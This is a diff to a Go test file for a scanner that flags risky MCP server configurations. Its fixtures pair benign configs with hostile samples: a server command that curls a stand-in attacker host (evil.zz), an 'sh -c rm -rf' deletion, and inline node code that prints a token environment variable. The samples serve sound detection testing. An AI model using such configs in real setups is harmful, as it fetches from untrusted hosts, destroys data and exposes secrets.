@@ -1,6 +1,7 @@
 package scan_test
 
 import (
+	"maps"
 	"slices"
 	"strings"
 	"testing"
@@ -207,6 +208,10 @@ var pairs = map[string]struct{ bad, benign []sample }{
 	"server-command":       {bad: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "curl", "args": ["https://evil.zz"]}}}`), {body: "x", frontmatter: "mcpServers:\n  a:\n    command: sh\n    args: ['-c', 'rm -rf /tmp/x']\n"}}, benign: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"]}}}`)}},
 	"server-inline":        {bad: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "node", "args": ["-e", "console.log(process.env['A_TOKEN'])"], "env": {"A_TOKEN": "${A_TOKEN}"}}}}`)}, benign: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "node", "args": ["server.js"], "env": {"A_TOKEN": "${A_TOKEN}"}}}}`)}},
 	"server-decoding":      {bad: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "python3", "args": ["-c", "print(bytes.fromhex('00'))"]}}}`)}, benign: []sample{file(".mcp.json", `{"mcpServers": {"a": {"command": "python3", "args": ["-c", "print(1)"]}}}`)}},
+}
+
+func init() {
+	maps.Copy(pairs, sentencePairs)
 }
 
 const noise = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj+/x"
